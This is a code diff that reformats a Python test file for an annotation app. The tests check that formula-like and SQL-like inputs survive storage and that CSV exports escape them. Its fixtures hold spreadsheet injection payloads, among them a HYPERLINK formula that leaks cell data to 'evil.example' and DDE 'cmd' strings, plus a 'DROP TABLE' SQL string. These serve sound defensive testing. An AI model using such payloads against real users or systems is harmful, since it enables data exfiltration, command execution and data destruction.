@@ -36,8 +36,15 @@ from annotate_app.services import (
 )
 from annotate_app.services.auth import SYSTEM, authenticate
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click me")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+]
 NASTY = "it's \"quoted\" `tick`; DROP TABLE labels;-- 100% _x_ \\ \\' \\\\x00 $1 ? :name %(name)s {0} ＇；－－ 😀 \u202e"
 NAME = "r'1;--%_\\$1?{0}＇"  # the same without spaces, for names and IDs
 
@@ -54,15 +61,34 @@ def _dangerous(cell: str) -> bool:
 def world(db, fast_hashing):
     """A project whose IDs and labels are formula-like and SQL-like, labelled by two annotators, a disagreement
     adjudicated and released."""
-    projects.create_project(db, SYSTEM, "inj", title=NASTY, guidelines=NASTY,
-                            grade_scale=[(0, "no " + NASTY), (1, "yes " + NASTY)], min_reason_length=1)
-    docs = [{"doc_id": d, "title": NASTY, "text": f + " " + NASTY} for d, f in zip(["=1+1", "@d", NAME], FORMULAS,
-                                                                                   strict=False)]
-    imports.import_documents(db, SYSTEM, "inj", "".join(json.dumps(d) + "\n" for d in docs).encode(),
-                             filename="d.jsonl")
-    imports.import_queries(db, SYSTEM, "inj", (json.dumps({"query_id": "+q", "text": NASTY}) + "\n" +
-                                               json.dumps({"query_id": NAME, "text": FORMULAS[0]}) + "\n").encode(),
-                           filename="q.jsonl")
+    projects.create_project(
+        db,
+        SYSTEM,
+        "inj",
+        title=NASTY,
+        guidelines=NASTY,
+        grade_scale=[(0, "no " + NASTY), (1, "yes " + NASTY)],
+        min_reason_length=1,
+    )
+    docs = [
+        {"doc_id": d, "title": NASTY, "text": f + " " + NASTY}
+        for d, f in zip(["=1+1", "@d", NAME], FORMULAS, strict=False)
+    ]
+    imports.import_documents(
+        db, SYSTEM, "inj", "".join(json.dumps(d) + "\n" for d in docs).encode(), filename="d.jsonl"
+    )
+    imports.import_queries(
+        db,
+        SYSTEM,
+        "inj",
+        (
+            json.dumps({"query_id": "+q", "text": NASTY})
+            + "\n"
+            + json.dumps({"query_id": NAME, "text": FORMULAS[0]})
+            + "\n"
+        ).encode(),
+        filename="q.jsonl",
+    )
     run = "".join(f"{q} Q0 {d} 1 1 {NAME}\n" for q in ("+q", NAME) for d in ("=1+1", "@d", NAME))
     imports.import_run(db, SYSTEM, "inj", run.encode(), filename="r.trec")
     imports.import_qrels(db, SYSTEM, "inj", f"+q 0 =1+1 1\n{NAME} 0 @d 0\n".encode(), name=NAME + "prior")
@@ -101,9 +127,12 @@ def test_machine_formats_keep_every_byte(world):
     assert {tuple(line.split()[::2]) for line in trec.splitlines()} >= {("+q", "=1+1"), (NAME, "@d")}
     beir = export.export_release(world, SYSTEM, "inj", format="beir").decode().splitlines()
     assert beir[0] == "query-id\tcorpus-id\tscore" and any(line.startswith("+q\t=1+1\t") for line in beir)
-    records = [json.loads(line) for line in export.export_release(world, SYSTEM, "inj", format="jsonl").splitlines()]
-    reasons = {x["reason"] for r in records for x in r["labels"]} | {r["adjudication"]["reason"] for r in records
-                                                                     if r["adjudication"]}
+    records = [
+        json.loads(line) for line in export.export_release(world, SYSTEM, "inj", format="jsonl").splitlines()
+    ]
+    reasons = {x["reason"] for r in records for x in r["labels"]} | {
+        r["adjudication"]["reason"] for r in records if r["adjudication"]
+    }
     assert FORMULAS[0] in reasons and "=1+1" in {r["doc_id"] for r in records}
 
 
@@ -112,13 +141,29 @@ def test_check_history_csv_escapes_run_and_qrels_names(tmp_path, capsys):
     qrels.write_text("q1 0 D1 1\n")
     run.write_text("q1 Q0 D1 1 1 sys\n")
     for name in ('=HYPERLINK("http://evil.example","x")', "@run", "-1+2"):
-        assert main(["check", str(qrels), str(run), "--min", "P@1=0.5", "--history", str(history),
-                     f"--name={name}"]) == 0
+        assert (
+            main(
+                [
+                    "check",
+                    str(qrels),
+                    str(run),
+                    "--min",
+                    "P@1=0.5",
+                    "--history",
+                    str(history),
+                    f"--name={name}",
+                ]
+            )
+            == 0
+        )
     capsys.readouterr()
     rows = _cells(history.read_bytes())
     header = rows[0]
-    assert [r[header.index("run")] for r in rows[1:]] == ['\'=HYPERLINK("http://evil.example","x")', "'@run",
-                                                          "'-1+2"]
+    assert [r[header.index("run")] for r in rows[1:]] == [
+        '\'=HYPERLINK("http://evil.example","x")',
+        "'@run",
+        "'-1+2",
+    ]
     assert not [c for r in rows[1:] for c in r if _dangerous(c)]
 
 
@@ -136,7 +181,9 @@ def test_sql_metacharacters_round_trip_in_every_text_field(world):
     view = queue.get_pair(db, me, "inj", mine[0].pair_id)
     assert view.doc_title == NASTY and view.query_text in (NASTY, FORMULAS[0])
     assert view.doc_text.endswith(" " + NASTY)
-    assert {(x.query_id, x.doc_id) for x in mine} <= {(q, d) for q in ("+q", NAME) for d in ("=1+1", "@d", NAME)}
+    assert {(x.query_id, x.doc_id) for x in mine} <= {
+        (q, d) for q in ("+q", NAME) for d in ("=1+1", "@d", NAME)
+    }
     release = releases.get_release(db, SYSTEM, "inj")
     assert (release.justification, release.note) == (NASTY, NASTY)
     excluded = pooling.exclude_pair(db, SYSTEM, "inj", "+q", "@d", reason=NASTY)
@@ -158,13 +205,22 @@ def test_skip_reasons_and_pair_notes_round_trip(db, fast_hashing):
     view = queue.next_pair(db, alice, "demo")
     queue.skip(db, alice, "demo", view.pair_id, reason=NASTY)
     with db.read() as s:
-        assert s.execute(text("SELECT skip_reason FROM assignments WHERE status = 'skipped'")).scalar() == NASTY
+        assert (
+            s.execute(text("SELECT skip_reason FROM assignments WHERE status = 'skipped'")).scalar() == NASTY
+        )
 
 
-FUZZ = settings(max_examples=15, deadline=None, derandomize=True,
-                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
-STORABLE = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), min_size=1,
-                   max_size=60).map(str.strip).filter(lambda t: len(t) >= 5)
+FUZZ = settings(
+    max_examples=15,
+    deadline=None,
+    derandomize=True,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+STORABLE = (
+    st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), min_size=1, max_size=60)
+    .map(str.strip)
+    .filter(lambda t: len(t) >= 5)
+)
 
 
 @FUZZ
@@ -172,15 +228,26 @@ STORABLE = st.text(st.characters(blacklist_categories=("Cs",), blacklist_charact
 def test_any_storable_text_round_trips(demo, reason, title):
     """Random Unicode (no NUL, no lone surrogate) in a label reason and a document title comes back unchanged."""
     alice = authenticate(demo, "alice", "alice-demo")
-    view = queue.next_pair(demo, alice, "demo") or queue.get_pair(demo, alice, "demo", labels.my_labels(
-        demo, alice, "demo")[0].pair_id)
+    view = queue.next_pair(demo, alice, "demo") or queue.get_pair(
+        demo, alice, "demo", labels.my_labels(demo, alice, "demo")[0].pair_id
+    )
     seen = view.current.version if view.current else 0
-    saved = labels.save_label(demo, alice, "demo", view.pair_id, grade=1, reason=reason, expected_version=seen)
+    saved = labels.save_label(
+        demo, alice, "demo", view.pair_id, grade=1, reason=reason, expected_version=seen
+    )
     assert saved.reason == reason
     assert labels.pair_history(demo, alice, "demo", view.pair_id)[0].reason == reason
     doc = {"doc_id": "Dz", "title": title, "text": "body"}
     imports.import_documents(demo, SYSTEM, "demo", (json.dumps(doc) + "\n").encode(), filename="z.jsonl")
     with demo.read() as s:
-        stored = s.execute(text("SELECT v.title FROM document_versions v JOIN documents d ON d.id = v.document_id "
-                                "WHERE d.external_id = 'Dz' ORDER BY v.version DESC")).scalars().first()
+        stored = (
+            s.execute(
+                text(
+                    "SELECT v.title FROM document_versions v JOIN documents d ON d.id = v.document_id "
+                    "WHERE d.external_id = 'Dz' ORDER BY v.version DESC"
+                )
+            )
+            .scalars()
+            .first()
+        )
     assert stored == title
